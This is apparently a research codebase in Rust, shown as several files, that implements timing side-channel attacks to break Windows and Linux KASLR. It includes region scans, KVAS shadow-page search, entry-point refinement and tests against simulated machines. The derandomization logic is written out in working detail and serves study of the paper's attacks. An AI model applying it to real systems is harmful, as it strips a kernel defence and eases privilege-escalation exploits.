            assert_eq!(d.size, t.spec.size, "{}", t.spec.name);
        }
        assert!(
            adaptive.probes * 2 <= fixed.probes,
            "adaptive {} vs fixed {}",
            adaptive.probes,
            fixed.probes
        );
    }
}
