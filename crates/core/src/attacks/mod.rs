//! End-to-end attacks (§IV of the paper).
//!
//! * [`kaslr`] — kernel-base derandomization on Intel (P2) and AMD (P3),
//! * [`modules`] — kernel-module detection and size-based identification,
//! * [`kpti`] — KASLR break through the KPTI trampoline,
//! * [`behavior`] — user-behaviour inference via module TLB states,
//! * [`userspace`] — fine-grained user ASLR break + library
//!   fingerprinting (works inside SGX),
//! * [`windows`] — Windows 10 KASLR/KVAS breaks,
//! * [`cloud`] — the EC2/GCE/Azure scenario drivers.

pub mod behavior;
pub mod campaign;
pub mod cloud;
pub mod kaslr;
pub mod kpti;
pub mod modules;
pub mod userspace;
pub mod windows;

pub use behavior::{AppFingerprinter, BehaviourTrace, SpyConfig, TlbSpy};
pub use campaign::{table1, Campaign, CampaignConfig, CampaignRow, Scenario, TrialOutcome};
pub use cloud::{run_scenario, run_scenario_defended, CloudBreakReport};
pub use kaslr::{AmdKaslrScan, AmdKernelBaseFinder, KaslrScan, KernelBaseFinder};
pub use kpti::{KptiAttack, KptiConfidence, KptiScan};
pub use modules::{
    score as score_modules, DetectedModule, Identification, ModuleClassifier, ModuleScan,
    ModuleScanner, ModuleScore,
};
pub use userspace::{LibraryMatch, LibraryMatcher, RegionMap, UserRegion, UserSpaceScanner};
pub use windows::{kernel_base_from_shadow, WindowsKaslrAttack, WindowsKaslrScan};
