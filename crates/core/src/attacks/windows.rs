//! Windows 10 KASLR and KVAS breaks (§IV-G).
//!
//! The kernel+driver region spans 512 GiB at 2 MiB granularity — 262144
//! candidates (18 bits). The kernel image occupies five consecutive
//! 2 MiB pages, so the scan looks for a mapped run of length ≥ 5. On
//! KVAS machines only the shadow entry pages (three consecutive 4 KiB
//! pages at base+0x298000 on 1709) are visible; finding them and
//! subtracting the build constant recovers the base.

use avx_mmu::VirtAddr;
use avx_os::windows::{
    KVAS_SHADOW_OFFSET, KVAS_SHADOW_PAGES, WIN_KASLR_ALIGN, WIN_KERNEL_IMAGE_SLOTS,
    WIN_KERNEL_REGION_START, WIN_KERNEL_SLOTS,
};

use crate::adaptive::AdaptiveSampler;
use crate::calibrate::Threshold;
use crate::decision::{ConfirmConfig, Confirmer, RunTracker};
use crate::primitives::{PageTableAttack, SweepClassification};
use crate::prober::Prober;
use crate::recal::{RecalConfig, Recalibrating};
use crate::sweep::AddrRange;

/// Record-keeping overhead per probed candidate.
pub const PER_SLOT_OVERHEAD_CYCLES: u64 = 120;

/// Result of the 2 MiB-granular region scan.
#[derive(Clone, Debug)]
pub struct WindowsKaslrScan {
    /// Recovered image base (start of the ≥5-slot mapped run).
    pub base: Option<VirtAddr>,
    /// Slot index of the base.
    pub slot: Option<u64>,
    /// Number of candidates classified mapped.
    pub mapped_slots: u64,
    /// Candidates actually classified before the early exit.
    pub candidates: u64,
    /// Raw probes issued (warm-ups included).
    pub probes: u64,
    /// Probing cycles.
    pub probing_cycles: u64,
    /// Total cycles.
    pub total_cycles: u64,
    /// In-scan recalibrations the closed loop performed.
    pub refits: u32,
}

/// The Windows KASLR attack.
#[derive(Clone, Copy, Debug)]
pub struct WindowsKaslrAttack {
    attack: PageTableAttack,
    confirm: Option<ConfirmConfig>,
}

impl WindowsKaslrAttack {
    /// Builds the attack from a calibrated threshold.
    #[must_use]
    pub fn new(threshold: Threshold) -> Self {
        Self {
            attack: PageTableAttack::new(threshold),
            confirm: None,
        }
    }

    /// Routes both region scans through the confirmation decision layer
    /// ([`crate::decision`]): a slot that would break a promising run
    /// is re-probed before the run is reset, so a single false negative
    /// inside the true kernel run no longer forces a sweep of all
    /// 262144 candidates.
    #[must_use]
    pub fn with_confirmation(mut self, config: ConfirmConfig) -> Self {
        self.confirm = Some(config);
        self
    }

    /// Routes both region scans through the adaptive sequential engine.
    #[must_use]
    pub fn with_adaptive(mut self, sampler: AdaptiveSampler) -> Self {
        self.attack = self.attack.with_adaptive(sampler);
        self
    }

    /// Overrides the fixed probe strategy (default: second-of-two).
    #[must_use]
    pub fn with_strategy(mut self, strategy: crate::prober::ProbeStrategy) -> Self {
        self.attack.strategy = strategy;
        self
    }

    /// Runs both region scans under the closed-loop recalibration
    /// driver ([`Recalibrating`]). One driver persists across the
    /// streamed chunks, so a mid-region refit (e.g. the guest's
    /// co-tenant arriving during the 262144-slot sweep) carries its new
    /// threshold + σ through the rest of the scan — this is the re-fit
    /// path that retires the historical k-means
    /// [`Threshold::from_bimodal_samples`] bootstrap for Windows
    /// guests onto the EM [`Threshold::refit_bimodal`].
    #[must_use]
    pub fn with_recalibration(mut self, config: RecalConfig) -> Self {
        self.attack = self.attack.with_recalibration(config);
        self
    }

    /// Candidates probed per batch while streaming the region scan.
    pub const SCAN_CHUNK_SLOTS: u64 = 1024;

    /// One streamed chunk through either the open-loop attack or the
    /// persistent closed-loop driver.
    fn sweep_chunk<P: Prober + ?Sized>(
        &self,
        driver: &mut Option<Recalibrating>,
        p: &mut P,
        chunk: &AddrRange,
    ) -> SweepClassification {
        match driver {
            Some(driver) => driver.sweep_range(p, chunk),
            None => self.attack.sweep_range(p, chunk),
        }
    }

    /// The persistent driver for a chunked scan, when recalibration is
    /// configured. The inner attack handed to the driver must not
    /// recurse into per-chunk drivers, which [`Recalibrating::new`]
    /// guarantees by clearing its `recal` field.
    fn driver(&self) -> Option<Recalibrating> {
        self.attack
            .recal
            .map(|config| Recalibrating::new(self.attack, config))
    }

    /// Scans all 262144 candidates for the five-slot kernel run.
    ///
    /// Streams batch by batch (no 262k-element allocation of raw samples
    /// is kept): each [`WindowsKaslrAttack::SCAN_CHUNK_SLOTS`]-candidate
    /// chunk goes through the batched probe pipeline, and the scan
    /// early-exits once the run is confirmed, as the real attack would;
    /// the paper reports ~60 ms for the full sweep.
    pub fn find_kernel_region<P: Prober + ?Sized>(&self, p: &mut P) -> WindowsKaslrScan {
        let probing_before = p.probing_cycles();
        let total_before = p.total_cycles();
        let start = VirtAddr::new_truncate(WIN_KERNEL_REGION_START);
        let mut mapped_slots = 0u64;
        let mut run_start: Option<u64> = None;
        let mut run_len = 0u64;
        let mut found: Option<u64> = None;
        let mut slot = 0u64;
        let mut probes = 0u64;

        let region = AddrRange::new(start, WIN_KASLR_ALIGN, WIN_KERNEL_SLOTS);
        let mut candidates = 0u64;
        let mut refits = 0u32;
        let mut driver = self.driver();
        let confirmer = self.confirm.map(|c| Confirmer::new(&self.attack, c));
        let mut tracker = self
            .confirm
            .map(|c| RunTracker::new(WIN_KERNEL_IMAGE_SLOTS, c.gap_tolerance));
        'sweep: for chunk in region.chunks(Self::SCAN_CHUNK_SLOTS) {
            let sweep = self.sweep_chunk(&mut driver, p, &chunk);
            p.spend(PER_SLOT_OVERHEAD_CYCLES * chunk.count);
            probes += sweep.probes;
            refits += sweep.refits;
            // The whole chunk was probed even when the run confirms
            // mid-chunk, so it counts toward probes-per-address whole.
            candidates += chunk.count;
            match (&confirmer, &mut tracker) {
                (Some(confirmer), Some(tracker)) => {
                    // Decision-layer path: a breaking slot inside a
                    // promising run is re-tested before the tracker
                    // sees its verdict (one confirmed false negative is
                    // a tolerated gap, not a reset).
                    for mapped in sweep.mapped {
                        let verdict = if mapped {
                            true
                        } else if tracker.in_run() {
                            let addr = start.wrapping_add(slot * WIN_KASLR_ALIGN);
                            let retest = confirmer.confirm_mapped(p, addr);
                            probes += retest.probes;
                            retest.confirmed
                        } else {
                            false
                        };
                        if verdict {
                            mapped_slots += 1;
                        }
                        if let Some(run) = tracker.observe(slot, verdict) {
                            found = Some(run);
                            break 'sweep;
                        }
                        slot += 1;
                    }
                }
                _ => {
                    for mapped in sweep.mapped {
                        if mapped {
                            mapped_slots += 1;
                            if run_start.is_none() {
                                run_start = Some(slot);
                            }
                            run_len += 1;
                            if run_len >= WIN_KERNEL_IMAGE_SLOTS {
                                found = run_start;
                                break 'sweep;
                            }
                        } else {
                            run_start = None;
                            run_len = 0;
                        }
                        slot += 1;
                    }
                }
            }
        }

        WindowsKaslrScan {
            base: found.map(|s| start.wrapping_add(s * WIN_KASLR_ALIGN)),
            slot: found,
            mapped_slots,
            candidates,
            probes,
            probing_cycles: p.probing_cycles() - probing_before,
            total_cycles: p.total_cycles() - total_before,
            refits,
        }
    }

    /// 4 KiB-granular scan of `[window_start, window_start + pages)` for
    /// the KVAS shadow region: a mapped run of exactly
    /// [`KVAS_SHADOW_PAGES`] pages. Returns the run start. Streams in
    /// batched chunks like [`WindowsKaslrAttack::find_kernel_region`].
    pub fn find_kvas_shadow<P: Prober + ?Sized>(
        &self,
        p: &mut P,
        window_start: VirtAddr,
        pages: u64,
    ) -> Option<VirtAddr> {
        let mut run_start: Option<u64> = None;
        let mut run_len = 0u64;
        let mut index = 0u64;
        let mut driver = self.driver();
        let confirmer = self.confirm.map(|c| Confirmer::new(&self.attack, c));
        for chunk in AddrRange::pages(window_start, pages).chunks(Self::SCAN_CHUNK_SLOTS) {
            let sweep = self.sweep_chunk(&mut driver, p, &chunk);
            p.spend(PER_SLOT_OVERHEAD_CYCLES * chunk.count);
            for mapped in sweep.mapped {
                // The shadow run must match *exactly*, so no gap is ever
                // tolerated here — but an unmapped verdict that would
                // terminate (or corrupt) a candidate run is re-tested
                // through the decision layer before it is believed.
                let verdict = match (&confirmer, mapped, run_len > 0) {
                    (Some(confirmer), false, true) => {
                        let addr = window_start.wrapping_add(index * 4096);
                        confirmer.confirm_mapped(p, addr).confirmed
                    }
                    _ => mapped,
                };
                if verdict {
                    if run_start.is_none() {
                        run_start = Some(index);
                    }
                    run_len += 1;
                } else {
                    if run_len == KVAS_SHADOW_PAGES {
                        return run_start.map(|s| window_start.wrapping_add(s * 4096));
                    }
                    run_start = None;
                    run_len = 0;
                }
                index += 1;
            }
        }
        if run_len == KVAS_SHADOW_PAGES {
            run_start.map(|s| window_start.wrapping_add(s * 4096))
        } else {
            None
        }
    }
}

/// Derives the kernel base from a found shadow region (`§IV-G`: "we
/// found the kernel base address by subtracting the KVAS offset").
#[must_use]
pub fn kernel_base_from_shadow(shadow: VirtAddr) -> VirtAddr {
    VirtAddr::new_truncate(shadow.as_u64().wrapping_sub(KVAS_SHADOW_OFFSET))
}

impl WindowsKaslrAttack {
    /// Breaks the *remaining 9 bits* of Windows KASLR entropy (§IV-G:
    /// the entry point "can begin at any 4-KiB boundary" inside the
    /// image; the paper proposes combining the region scan "with our
    /// TLB attack (P4) to break the remaining 9 bits").
    ///
    /// For each 4 KiB candidate of the image head: evict its
    /// translation, let the victim perform a syscall (`trigger`), and
    /// probe — only the page hosting the entry code turns hot.
    ///
    /// `trigger` is the victim-activity driver (e.g.
    /// [`avx_os::windows::perform_syscall`] bound to a machine).
    pub fn refine_entry_point<P, F>(
        &self,
        p: &mut P,
        image_base: VirtAddr,
        trigger: F,
    ) -> Option<VirtAddr>
    where
        P: Prober,
        F: FnMut(&mut P),
    {
        let template = crate::primitives::TlbTemplateAttack::new(&self.attack.threshold);
        template.locate(p, image_base, WIN_KASLR_ALIGN / 4096, trigger)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::prober::SimProber;
    use avx_os::windows::{WindowsConfig, WindowsSystem, WindowsVersion};
    use avx_uarch::{CpuProfile, NoiseModel, OpKind};

    fn prober(
        config: WindowsConfig,
        profile: CpuProfile,
        noise: bool,
    ) -> (SimProber, avx_os::WindowsTruth) {
        let sys = WindowsSystem::build(config);
        let (mut m, truth) = sys.into_machine(profile, 5);
        if !noise {
            m.set_noise(NoiseModel::none());
        }
        (SimProber::new(m), truth)
    }

    fn calibrated(p: &mut SimProber, scratch: VirtAddr) -> Threshold {
        // Windows guests calibrate the same way: clean-store identity.
        let _ = p.probe(OpKind::Load, scratch);
        Threshold::calibrate(p, scratch, 8)
    }

    #[test]
    fn finds_kernel_region_at_2mib_granularity() {
        let (mut p, truth) = prober(
            WindowsConfig {
                fixed_slot: Some(123_456),
                ..WindowsConfig::default()
            },
            CpuProfile::alder_lake_i5_12400f(),
            false,
        );
        let th = calibrated(&mut p, truth.user_scratch);
        let scan = WindowsKaslrAttack::new(th).find_kernel_region(&mut p);
        assert_eq!(scan.base, Some(truth.kernel_base));
        assert_eq!(scan.slot, Some(123_456));
        assert_eq!(scan.mapped_slots, 5);
    }

    #[test]
    fn random_slots_recovered_across_seeds() {
        for seed in [1u64, 2, 3] {
            let (mut p, truth) = prober(
                WindowsConfig {
                    seed,
                    ..WindowsConfig::default()
                },
                CpuProfile::alder_lake_i5_12400f(),
                false,
            );
            let th = calibrated(&mut p, truth.user_scratch);
            let scan = WindowsKaslrAttack::new(th).find_kernel_region(&mut p);
            assert_eq!(scan.base, Some(truth.kernel_base), "seed {seed}");
        }
    }

    #[test]
    fn kvas_shadow_found_and_base_derived() {
        let (mut p, truth) = prober(
            WindowsConfig {
                version: WindowsVersion::V1709,
                kvas: true,
                fixed_slot: Some(77_000),
                seed: 3,
            },
            CpuProfile::skylake_i7_6600u(),
            false,
        );
        let th = calibrated(&mut p, truth.user_scratch);
        let attack = WindowsKaslrAttack::new(th);
        // Scan a window around the kernel (full 512 GiB sweep is the
        // same loop; the window keeps the test fast — §IV-G reports 8 s
        // on hardware for the full sweep).
        let window = VirtAddr::new_truncate(truth.kernel_base.as_u64() - 64 * 4096);
        let shadow = attack
            .find_kvas_shadow(&mut p, window, 64 + 1024)
            .expect("shadow found");
        assert_eq!(shadow, truth.shadow.unwrap());
        assert_eq!(kernel_base_from_shadow(shadow), truth.kernel_base);
    }

    #[test]
    fn kvas_scan_rejects_wrong_run_lengths() {
        // A window containing the 5-slot kernel (2 MiB pages → 512-page
        // run after 4 KiB classification) must not match the 3-page rule.
        let (mut p, truth) = prober(
            WindowsConfig {
                fixed_slot: Some(9_000),
                ..WindowsConfig::default()
            },
            CpuProfile::alder_lake_i5_12400f(),
            false,
        );
        let th = calibrated(&mut p, truth.user_scratch);
        let attack = WindowsKaslrAttack::new(th);
        let window = VirtAddr::new_truncate(truth.kernel_base.as_u64() - 8 * 4096);
        let shadow = attack.find_kvas_shadow(&mut p, window, 128);
        assert_eq!(shadow, None, "kernel run is 512 pages, not 3");
    }

    #[test]
    fn kernel_run_straddling_a_chunk_seam_is_found() {
        // Slots 1022..1027 put the 5-slot image across the
        // SCAN_CHUNK_SLOTS = 1024 boundary: run state must carry over
        // the seam, with and without the decision layer.
        let seam_slot = WindowsKaslrAttack::SCAN_CHUNK_SLOTS - 2;
        let config = WindowsConfig {
            fixed_slot: Some(seam_slot),
            ..WindowsConfig::default()
        };
        let (mut p, truth) = prober(config.clone(), CpuProfile::alder_lake_i5_12400f(), false);
        let th = calibrated(&mut p, truth.user_scratch);
        let scan = WindowsKaslrAttack::new(th).find_kernel_region(&mut p);
        assert_eq!(scan.slot, Some(seam_slot));
        assert_eq!(scan.base, Some(truth.kernel_base));

        let (mut p, truth) = prober(config, CpuProfile::alder_lake_i5_12400f(), false);
        let th = calibrated(&mut p, truth.user_scratch);
        let confirmed = WindowsKaslrAttack::new(th)
            .with_confirmation(ConfirmConfig::default())
            .find_kernel_region(&mut p);
        assert_eq!(confirmed.slot, Some(seam_slot), "decision layer agrees");
        assert_eq!(confirmed.base, Some(truth.kernel_base));
    }

    #[test]
    fn kvas_run_ending_at_the_window_edge_is_found() {
        // The exact-length check must also fire when the 3-page shadow
        // run terminates at the window boundary (no trailing unmapped
        // page inside the window to close it).
        let (mut p, truth) = prober(
            WindowsConfig {
                version: WindowsVersion::V1709,
                kvas: true,
                fixed_slot: Some(81_000),
                seed: 4,
            },
            CpuProfile::alder_lake_i5_12400f(),
            false,
        );
        let th = calibrated(&mut p, truth.user_scratch);
        let attack = WindowsKaslrAttack::new(th);
        let shadow_truth = truth.shadow.unwrap();
        let lead_pages = 8u64;
        let window = VirtAddr::new_truncate(shadow_truth.as_u64() - lead_pages * 4096);
        let shadow = attack
            .find_kvas_shadow(&mut p, window, lead_pages + KVAS_SHADOW_PAGES)
            .expect("run ending at window edge found");
        assert_eq!(shadow, shadow_truth);

        // One page short, the run is truncated to length 2 → rejected.
        let shadow = attack.find_kvas_shadow(&mut p, window, lead_pages + KVAS_SHADOW_PAGES - 1);
        assert_eq!(shadow, None, "truncated run must not match");
    }

    #[test]
    fn confirmed_kvas_scan_keeps_the_quiet_answer() {
        let (mut p, truth) = prober(
            WindowsConfig {
                version: WindowsVersion::V1709,
                kvas: true,
                fixed_slot: Some(77_000),
                seed: 3,
            },
            CpuProfile::skylake_i7_6600u(),
            false,
        );
        let th = calibrated(&mut p, truth.user_scratch);
        let attack = WindowsKaslrAttack::new(th).with_confirmation(ConfirmConfig::default());
        let window = VirtAddr::new_truncate(truth.kernel_base.as_u64() - 64 * 4096);
        let shadow = attack
            .find_kvas_shadow(&mut p, window, 64 + 1024)
            .expect("shadow found with confirmation on");
        assert_eq!(shadow, truth.shadow.unwrap());
    }

    #[test]
    fn entry_point_refinement_breaks_remaining_9_bits() {
        use avx_os::windows::perform_syscall;
        for seed in [1u64, 2, 3] {
            let (mut p, truth) = prober(
                WindowsConfig {
                    fixed_slot: Some(10_000 + seed),
                    seed,
                    ..WindowsConfig::default()
                },
                CpuProfile::alder_lake_i5_12400f(),
                false,
            );
            let th = calibrated(&mut p, truth.user_scratch);
            let attack = WindowsKaslrAttack::new(th);
            let region = attack.find_kernel_region(&mut p);
            let base = region.base.expect("region found");
            let entry = attack
                .refine_entry_point(&mut p, base, |p| perform_syscall(p.machine_mut(), &truth))
                .expect("entry located");
            assert_eq!(
                entry,
                truth.entry.align_down(4096),
                "seed {seed}: all 27 bits of entropy broken"
            );
        }
    }

    #[test]
    fn entry_refinement_without_syscalls_finds_nothing() {
        let (mut p, truth) = prober(
            WindowsConfig {
                fixed_slot: Some(50_000),
                ..WindowsConfig::default()
            },
            CpuProfile::alder_lake_i5_12400f(),
            false,
        );
        let th = calibrated(&mut p, truth.user_scratch);
        let attack = WindowsKaslrAttack::new(th);
        let entry = attack.refine_entry_point(&mut p, truth.kernel_base, |_| {});
        assert_eq!(entry, None, "no victim activity → no hot page");
    }

    #[test]
    fn adaptive_region_scan_matches_fixed_with_fewer_probes() {
        use crate::adaptive::AdaptiveSampler;
        let config = WindowsConfig {
            fixed_slot: Some(123_456),
            ..WindowsConfig::default()
        };
        let (mut p, truth) = prober(config.clone(), CpuProfile::alder_lake_i5_12400f(), false);
        let th = calibrated(&mut p, truth.user_scratch);
        let fixed = {
            let mut attack = WindowsKaslrAttack::new(th);
            attack.attack.strategy = crate::prober::ProbeStrategy::MinOf(8);
            attack.find_kernel_region(&mut p)
        };
        let (mut p, truth) = prober(config, CpuProfile::alder_lake_i5_12400f(), false);
        let th = calibrated(&mut p, truth.user_scratch);
        let adaptive = WindowsKaslrAttack::new(th)
            .with_adaptive(AdaptiveSampler::from_threshold(&th, 1.0))
            .find_kernel_region(&mut p);
        assert_eq!(adaptive.base, Some(truth.kernel_base));
        assert_eq!(adaptive.slot, fixed.slot);
        assert_eq!(adaptive.candidates, fixed.candidates);
        assert!(
            adaptive.probes * 2 <= fixed.probes,
            "adaptive {} vs fixed {}",
            adaptive.probes,
            fixed.probes
        );
    }

    #[test]
    fn with_noise_still_finds_region() {
        let (mut p, truth) = prober(
            WindowsConfig {
                fixed_slot: Some(200_000),
                seed: 9,
                ..WindowsConfig::default()
            },
            CpuProfile::xeon_platinum_8171m(),
            true,
        );
        let th = calibrated(&mut p, truth.user_scratch);
        let scan = WindowsKaslrAttack::new(th).find_kernel_region(&mut p);
        assert_eq!(scan.base, Some(truth.kernel_base));
    }
}
