//! Kernel-base derandomization (§IV-B, Fig. 4, Table I).
//!
//! Intel path: probe each of the 512 candidate 2 MiB offsets twice with
//! a masked load and keep the second time; mapped candidates sit ~14
//! cycles below unmapped ones; the kernel base is the first mapped run.
//!
//! AMD path: the P-bit is invisible (kernel probes always walk), so the
//! finder instead locates the 4 KiB-split slots of the kernel image via
//! walk-termination-level outliers (P3) and derives the base from their
//! known in-image patttern.

use avx_mmu::VirtAddr;
use avx_os::linux::{KASLR_ALIGN, KERNEL_SLOTS, KERNEL_TEXT_REGION_START};

use crate::adaptive::{AdaptiveMinFilter, AdaptiveSampler};
use crate::calibrate::Threshold;
use crate::decision::{run_anchors, ConfirmConfig, Confirmer};
use crate::primitives::{LevelAttack, PageTableAttack};
use crate::prober::{ProbeStrategy, Prober};
use crate::recal::RecalConfig;
use crate::sweep::AddrRange;

/// Per-candidate record-keeping cost outside the timed probes (loop,
/// compare, store) used for Table I "Total" accounting.
pub const PER_SLOT_OVERHEAD_CYCLES: u64 = 1_800;

/// Result of one kernel-base scan.
#[derive(Clone, Debug)]
pub struct KaslrScan {
    /// Measured cycles per candidate slot (the Fig. 4 series).
    pub samples: Vec<u64>,
    /// Mapped/unmapped classification per slot.
    pub mapped: Vec<bool>,
    /// Recovered base, if a mapped run was found.
    pub base: Option<VirtAddr>,
    /// Cycles spent inside masked ops ("Probing" in Table I).
    pub probing_cycles: u64,
    /// All cycles ("Total" in Table I).
    pub total_cycles: u64,
    /// Raw probes the sweep issued (warm-ups included) — the budget the
    /// adaptive engine economizes.
    pub probes: u64,
    /// In-scan recalibrations the closed loop performed (0 unless
    /// [`KernelBaseFinder::with_recalibration`] was set).
    pub refits: u32,
}

impl KaslrScan {
    /// The slide in 2 MiB slots, if the base was found.
    #[must_use]
    pub fn slide_slots(&self) -> Option<u64> {
        self.base
            .map(|b| (b.as_u64() - KERNEL_TEXT_REGION_START) / KASLR_ALIGN)
    }
}

/// The Intel kernel-base finder.
#[derive(Clone, Copy, Debug)]
pub struct KernelBaseFinder {
    attack: PageTableAttack,
    confirm: Option<ConfirmConfig>,
}

impl KernelBaseFinder {
    /// Builds the finder from a calibrated threshold.
    #[must_use]
    pub fn new(threshold: Threshold) -> Self {
        Self {
            attack: PageTableAttack::new(threshold),
            confirm: None,
        }
    }

    /// Overrides the probe strategy (default: second-of-two).
    #[must_use]
    pub fn with_strategy(mut self, strategy: ProbeStrategy) -> Self {
        self.attack.strategy = strategy;
        self
    }

    /// Routes the sweep through the adaptive sequential engine: each
    /// candidate slot is probed only until its classification settles.
    #[must_use]
    pub fn with_adaptive(mut self, sampler: AdaptiveSampler) -> Self {
        self.attack = self.attack.with_adaptive(sampler);
        self
    }

    /// Runs the sweep under the closed-loop recalibration driver
    /// ([`crate::recal::Recalibrating`]): threshold and σ are re-fitted
    /// mid-scan when the noise environment drifts away from the
    /// one-shot calibration.
    #[must_use]
    pub fn with_recalibration(mut self, config: RecalConfig) -> Self {
        self.attack = self.attack.with_recalibration(config);
        self
    }

    /// Probes with masked stores instead of loads. Stores run 16–18
    /// cycles faster under assist (P6), which §IV-F uses to shorten
    /// full-range scans; pair with [`crate::Threshold::calibrate_store`].
    #[must_use]
    pub fn with_op(mut self, op: avx_uarch::OpKind) -> Self {
        self.attack.op = op;
        self
    }

    /// Re-tests candidate run anchors through the confirmation decision
    /// layer ([`crate::decision`]) instead of trusting the first mapped
    /// run outright.
    #[must_use]
    pub fn with_confirmation(mut self, config: ConfirmConfig) -> Self {
        self.confirm = Some(config);
        self
    }

    /// The 512-slot candidate range of the §IV-B scan.
    #[must_use]
    pub fn candidate_range() -> AddrRange {
        AddrRange::new(
            VirtAddr::new_truncate(KERNEL_TEXT_REGION_START),
            KASLR_ALIGN,
            KERNEL_SLOTS,
        )
    }

    /// Scans all 512 candidate offsets and recovers the base. The
    /// candidates are fed through the batched probe pipeline.
    pub fn scan<P: Prober + ?Sized>(&self, p: &mut P) -> KaslrScan {
        let probing_before = p.probing_cycles();
        let total_before = p.total_cycles();
        let range = Self::candidate_range();
        let start = range.start;
        let sweep = self.attack.sweep_range(p, &range);
        p.spend(KERNEL_SLOTS * PER_SLOT_OVERHEAD_CYCLES);
        let mut confirm_probes = 0u64;
        let slot = match self.confirm {
            None => first_mapped_run(&sweep.mapped, 2).map(|slot| slot as u64),
            Some(config) => {
                let confirmer = Confirmer::new(&self.attack, config);
                let anchors = run_anchors(&sweep.mapped, 2);
                let found = confirmer.first_confirmed(
                    p,
                    anchors
                        .iter()
                        .map(|&i| (i as u64, start.wrapping_add(i as u64 * KASLR_ALIGN))),
                );
                confirm_probes = found.probes;
                // Every anchor failed its re-test: fall back to the
                // legacy first-run rule rather than return nothing.
                found
                    .slot
                    .or_else(|| first_mapped_run(&sweep.mapped, 2).map(|slot| slot as u64))
            }
        };
        let base = slot.map(|slot| start.wrapping_add(slot * KASLR_ALIGN));
        KaslrScan {
            samples: sweep.samples,
            mapped: sweep.mapped,
            base,
            probing_cycles: p.probing_cycles() - probing_before,
            total_cycles: p.total_cycles() - total_before,
            probes: sweep.probes + confirm_probes,
            refits: sweep.refits,
        }
    }
}

/// First index where `mapped` has a run of at least `min_run` `true`s.
/// Requiring a 2-slot run rejects single-probe flukes; flukes toward
/// "mapped" cannot occur at all (interrupt spikes only add latency).
fn first_mapped_run(mapped: &[bool], min_run: usize) -> Option<usize> {
    let mut run = 0usize;
    for (i, &m) in mapped.iter().enumerate() {
        if m {
            run += 1;
            if run >= min_run {
                return Some(i + 1 - run);
            }
        } else {
            run = 0;
        }
    }
    // A single trailing mapped slot still counts (kernel at the very end).
    if run >= 1 {
        Some(mapped.len() - run)
    } else {
        None
    }
}

/// Result of the AMD level-based scan.
#[derive(Clone, Debug)]
pub struct AmdKaslrScan {
    /// Min-filtered cycles per candidate slot.
    pub samples: Vec<u64>,
    /// Indices of PT-level (4 KiB-backed) outlier slots.
    pub outliers: Vec<usize>,
    /// Recovered base, if the outlier pattern matched.
    pub base: Option<VirtAddr>,
    /// Probing cycles.
    pub probing_cycles: u64,
    /// Total cycles.
    pub total_cycles: u64,
    /// Raw probes the sweep issued (warm-ups included).
    pub probes: u64,
}

/// The AMD kernel-base finder (§IV-B, Zen 3).
#[derive(Clone, Debug)]
pub struct AmdKernelBaseFinder {
    level: LevelAttack,
    /// The in-image slot offsets that are 4 KiB-split (known layout
    /// constants of the target kernel build; `[0, 1, 2, 3, 4]` for the
    /// default [`avx_os::linux::LinuxConfig`]).
    expected_pattern: Vec<u64>,
}

impl AmdKernelBaseFinder {
    /// Builds the finder for a kernel whose 4 KiB splits sit at the
    /// given in-image slot offsets (sorted ascending). The offsets are a
    /// build constant of the target kernel, like the function offsets
    /// the threat model assumes.
    ///
    /// # Panics
    ///
    /// Panics if `expected_pattern` is empty or unsorted.
    #[must_use]
    pub fn new(expected_pattern: Vec<u64>) -> Self {
        assert!(!expected_pattern.is_empty(), "pattern must be non-empty");
        assert!(
            expected_pattern.windows(2).all(|w| w[0] < w[1]),
            "pattern must be strictly ascending"
        );
        Self {
            level: LevelAttack::default(),
            expected_pattern,
        }
    }

    /// Finder for the default simulated kernel build (splits at the
    /// text/rodata and data boundaries: slots 8, 9, 10, 18, 19).
    #[must_use]
    pub fn for_default_kernel() -> Self {
        Self::new(vec![8, 9, 10, 18, 19])
    }

    /// Number of repeats per slot (min-filter width).
    #[must_use]
    pub fn with_repeats(mut self, repeats: u8) -> Self {
        self.level.repeats = repeats;
        self
    }

    /// Routes the sweep through the early-stopping min-filter: each
    /// slot is re-probed only until its latency floor stabilizes.
    #[must_use]
    pub fn with_early_stop(mut self, filter: AdaptiveMinFilter) -> Self {
        self.level = self.level.with_early_stop(filter);
        self
    }

    /// Runs the sweep under the closed-loop escalating min-filter
    /// ([`crate::recal::RecalibratingMinFilter`]): a dispersion shift of
    /// the latency floors buys later slots a wider probe budget.
    #[must_use]
    pub fn with_recalibration(mut self, config: RecalConfig) -> Self {
        self.level = self.level.with_recalibration(config);
        self
    }

    /// Scans all 512 slots, finds PT-level outliers and matches the
    /// expected split pattern to recover the base. The candidates are
    /// fed through the batched probe pipeline with a min-filter.
    pub fn scan<P: Prober + ?Sized>(&self, p: &mut P) -> AmdKaslrScan {
        let probing_before = p.probing_cycles();
        let total_before = p.total_cycles();
        let range = KernelBaseFinder::candidate_range();
        let start = range.start;
        let (samples, probes) = self.level.measure_range_counted(p, &range);
        p.spend(KERNEL_SLOTS * PER_SLOT_OVERHEAD_CYCLES);
        let outliers = self.level.outliers(&samples);
        let base = self
            .match_pattern(&outliers)
            .map(|slot| start.wrapping_add(slot as u64 * KASLR_ALIGN));
        AmdKaslrScan {
            samples,
            outliers,
            base,
            probing_cycles: p.probing_cycles() - probing_before,
            total_cycles: p.total_cycles() - total_before,
            probes,
        }
    }

    /// Looks for the expected relative pattern within the outlier set;
    /// returns the *base* slot (anchor minus the first pattern offset).
    fn match_pattern(&self, outliers: &[usize]) -> Option<usize> {
        let first = self.expected_pattern[0] as usize;
        for &anchor in outliers {
            let ok = self
                .expected_pattern
                .iter()
                .all(|&off| outliers.contains(&(anchor + off as usize - first)));
            if ok && anchor >= first {
                return Some(anchor - first);
            }
        }
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::prober::SimProber;
    use avx_os::linux::{LinuxConfig, LinuxSystem};
    use avx_uarch::{CpuProfile, NoiseModel};

    fn run_intel(seed: u64, noise: bool) -> (KaslrScan, avx_os::LinuxTruth) {
        let sys = LinuxSystem::build(LinuxConfig::seeded(seed));
        let (mut m, truth) = sys.into_machine(CpuProfile::alder_lake_i5_12400f(), seed);
        if !noise {
            m.set_noise(NoiseModel::none());
        }
        let mut p = SimProber::new(m);
        let th = Threshold::calibrate(&mut p, truth.user.calibration, 8);
        let scan = KernelBaseFinder::new(th).scan(&mut p);
        (scan, truth)
    }

    #[test]
    fn finds_exact_base_without_noise() {
        for seed in [1, 2, 3, 4, 5] {
            let (scan, truth) = run_intel(seed, false);
